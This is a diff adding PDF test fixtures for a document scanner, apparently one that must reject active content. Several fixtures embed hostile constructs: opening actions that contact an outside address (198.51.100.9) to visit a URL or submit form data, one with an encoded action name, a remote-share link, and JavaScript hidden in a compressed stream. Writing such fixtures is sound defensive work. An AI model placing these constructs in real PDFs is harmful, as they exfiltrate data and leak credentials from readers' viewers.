@@ -123,6 +123,67 @@ export function pdfJsInObjectStream(): Buffer {
   ]);
 }
 
+/** A PDF with a stream, the stream's data deflated when `packed`. */
+function pdfWithStream(dictionary: string, data: string, packed: boolean): Buffer {
+  const bytes = packed ? deflateSync(Buffer.from(data, 'latin1')) : Buffer.from(data, 'latin1');
+  const filter = packed ? ' /Filter /FlateDecode' : '';
+  return Buffer.concat([
+    Buffer.from(
+      '%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n' +
+        '2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n' +
+        `3 0 obj << ${dictionary}${filter} /Length ${bytes.length} >>\nstream\n`,
+      'latin1',
+    ),
+    bytes,
+    Buffer.from('\nendstream\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n', 'latin1'),
+  ]);
+}
+
+/**
+ * Issue 17 §7: one file per construct the scanner did not refuse before. Each would act in
+ * a desktop viewer: XML forms with scripts, actions on page or field events, an opening
+ * action that visits a web address, form data sent out, other files opened or imported,
+ * and a script hidden in the compressed data of an ordinary stream.
+ */
+export const pdfXfa = () => pdfWith('/AcroForm << /Fields [] /XFA [(template) 3 0 R] >>');
+export const pdfPageAction = () => pdfWith('/AA << /WC << /S /Named /N /Print >> >>');
+export const pdfOpenActionUri = () =>
+  pdfWith('/OpenAction << /S /URI /URI (http://198.51.100.9/collect) >>');
+export const pdfOpenActionUriByReference = () =>
+  Buffer.from(
+    '%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >> endobj\n' +
+      '2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n' +
+      '3 0 obj << /S /URI /URI (http://198.51.100.9/collect) >> endobj\n' +
+      'trailer << /Root 1 0 R >>\n%%EOF\n',
+    'latin1',
+  );
+export const pdfSubmitForm = () =>
+  pdfWith('/OpenAction << /S /Submit#46orm /F (http://198.51.100.9/) /Flags 4 >>');
+export const pdfGoToR = () =>
+  pdfWith('/OpenAction << /S /GoToR /F (\\\\198.51.100.9\\share\\a.pdf) /D [0 /Fit] >>');
+export const pdfImportData = () => pdfWith('/OpenAction << /S /ImportData /F (data.fdf) >>');
+export const pdfJsInOrdinaryStream = () =>
+  pdfWithStream('', '<< /S /JavaScript /JS (app.launchURL\\(1\\)) >>', true);
+
+/** Ordinary PDFs the stricter scanner must still take: a link, a subset font, an image. */
+export const pdfLinkAnnotation = () =>
+  pdfWith(
+    '/Names << >> /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (https://mahapolice.gov.in) >> >>]',
+  );
+export const pdfSubsetFont = () =>
+  pdfWith('/Fonts << /F1 << /Type /Font /Subtype /Type0 /BaseFont /AAAAAB+Mangal >> >>');
+export const pdfRandomImage = (data: Buffer) =>
+  Buffer.concat([
+    Buffer.from(
+      '%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n' +
+        '2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n' +
+        `3 0 obj << /Type /XObject /Subtype /Image /Width 1 /Height 1 /Filter /DCTDecode /Length ${data.length} >>\nstream\n`,
+      'latin1',
+    ),
+    data,
+    Buffer.from('\nendstream\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n', 'latin1'),
+  ]);
+
 /** A plain PDF with an opening action that only sets the view: legitimate, accepted. */
 export const pdfOpenActionView = () => pdfWith('/OpenAction [3 0 R /FitH null]');
 
